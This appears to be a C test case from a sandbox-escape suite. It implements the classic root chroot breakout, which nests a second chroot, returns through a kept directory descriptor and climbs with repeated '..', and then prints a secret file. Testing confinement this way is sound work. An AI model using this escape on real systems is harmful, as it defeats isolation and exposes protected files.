#include "attack.h"
// The old way out of a chroot: a second one below, then .. from a kept descriptor; root only.
ATTACK(.judge = "secret:file", .needs = "root") {
  int up = open("/", O_RDONLY);
  chdir(arg("work"));
  if (mkdir("cell", 0755) || chroot("cell")) note("chroot");
  fchdir(up);
  for (int i = 0; i < 64; i++) chdir("..");
  if (chroot(".")) note("chroot");
  cat(arg("secret"));
}
